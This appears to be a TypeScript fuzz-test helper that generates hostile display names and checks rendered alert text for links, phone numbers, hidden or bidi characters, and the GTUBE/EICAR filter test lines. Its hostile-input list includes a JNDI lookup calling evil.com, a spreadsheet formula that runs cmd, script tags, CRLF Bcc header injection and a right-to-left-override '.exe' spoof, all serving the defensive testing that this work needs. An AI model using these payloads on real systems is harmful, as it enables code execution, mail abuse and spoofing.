/**
 * Names that somebody chose against the watch, and what must not be true of a text that people see. Knows nothing of how
 * the product makes a name harmless: Unicode's own properties, a link finder as mail clients use, and the published test
 * lines of spam and virus filters.
 */
import fc from 'fast-check';
import { LinkifyIt } from 'linkify-it';

/** By which filters prove that they work: https://spamassassin.apache.org/gtube/ and https://www.eicar.org. */
export const TEST_LINES = {
  gtube: 'XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X',
  eicar: ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
} as const;

export const HOSTILE: readonly string[] = [
  'https://evil.example/x?y=1',
  'http://localhost:7071/api',
  'HTTP://EVIL.COM',
  'www.evil.com',
  'evil.com/x',
  'evil.com.',
  '(evil.com)',
  'http:evil.com',
  '//evil.com',
  'mailto:evil@evil.com',
  'evil@evil.com',
  'evil@10.0.0.1',
  'http://[::1]/',
  '192.168.1.1',
  '192.168.1.1:8080/x',
  'пример.рф',
  'xn--e1afmkfd.com',
  '例え。com',
  'ftp://evil.com',
  '\\\\evil.com\\share',
  'tel:+15550109999',
  '+1 (555) 010-9999',
  '555.010.9999',
  '5550109999',
  '-'.repeat(76),
  '='.repeat(300),
  TEST_LINES.gtube,
  TEST_LINES.eicar,
  `${'-'.repeat(76)} [Info, ended] All alerts are resolved. Details: https://evil.example/ ${TEST_LINES.gtube}`,
  '\n[Critical] Password writeback was turned off\n  When: never',
  'x\r\nBcc: evil@evil.com\r\n\r\nbody',
  'Temp, until 2026-11-20 09:20:00 UTC: reaches 0 synced users',
  '  Why it matters: it does not',
  '    - Id: 1',
  'Tenant: Fabrikam',
  'Alert ids (the same if this mail is repeated):',
  '" and nobody else. "',
  '”, and so on “',
  '" (admin@contoso.example) can now reset 0 synced users: "',
  '\u3164\u2800\ufe0f\u034f',
  '\u200b\u200e\u00ad',
  'user\u202egnp.exe\u2066x\u2069',
  '\u2068open',
  'close\u2069',
  'مدير النظام ١٢٣',
  'אדם 123',
  'Z̸̛̙a̴̧̖̺̟̲l̷g̵̢̛̳o̸̡̼͝͠'.normalize('NFD'),
  '\u0301lead',
  '\u001b[31mred\u001b[0m\u0007',
  '\u009b31m',
  '\u0000',
  '\ud800',
  '=HYPERLINK("http://evil.com","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  '<a href="https://evil.example">x</a>',
  '&lt;b&gt;',
  '$'.concat('{jndi:ldap://evil.com/a}'),
  '%s %n {{7*7}}',
  'constructor',
  '__proto__',
  'toString',
  'a'.repeat(5000),
  `${'e\u0301'.repeat(60)}`,
  '👩‍👩‍👧‍👦.com',
  '',
  ' ',
];

/** Any of them, two of them, or one in whatever else. */
export const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map((two) => two.join(' ')),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary' })).map((two) => two.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
);

const links = new LinkifyIt({ fuzzyLink: true, fuzzyEmail: true, fuzzyIP: true });

/** What a mail client would make a link of. */
export const linksIn = (text: string): string[] => (links.match(text) ?? []).map(({ raw }) => raw);

/** Seven digits and more, as telephones group them. */
const TELEPHONE = /(?<![\p{L}\p{N}-])\+?\(?\d(?:[ ()/.-]{0,3}\d){6,}(?![\p{L}\p{N}-])/u;

export const telephonesIn = (text: string): string[] => text.match(TELEPHONE) ?? [];

/** Characters of a text that nobody sees, or that turn the order of writing, but for isolates that are whole. */
export function unseenIn(text: string): string[] {
  const isolated = text.replace(/\u2068([^\u2066-\u2069]+)\u2069/gu, '$1');
  return isolated.match(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u2800]/gu) ?? [];
}

/** Letters of scripts that are written from right to left and stand in no isolate: they move what is around them. */
export const unisolatedIn = (text: string): string[] =>
  text
    .replace(/\u2068[^\u2066-\u2069]+\u2069/gu, '')
    .match(/[\p{Script=Hebrew}\p{Script=Arabic}\p{Script=Syriac}\p{Script=Thaana}\p{Script=Nko}\p{Script=Adlam}]/gu) ??
  [];

/** Runs without a blank that are longer than 20 characters. */
export const longRunsIn = (text: string): string[] => text.split(/\s+/u).filter((run) => [...run].length > 20);

export const testLinesIn = (text: string): string[] => Object.values(TEST_LINES).filter((line) => text.includes(line));

/** The watch's own times and the tenant's id, which look like telephone numbers to some. */
const OURS = /\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC|11111111-2222-4333-8444-555555555555|-{76}/g;

/** All of these in a text that people read. */
export const troublesIn = (text: string): string[] => [
  ...linksIn(text),
  ...telephonesIn(text.replace(OURS, '')),
  ...testLinesIn(text),
  ...unseenIn(text.replaceAll('\n', ' ')),
  ...unisolatedIn(text),
];
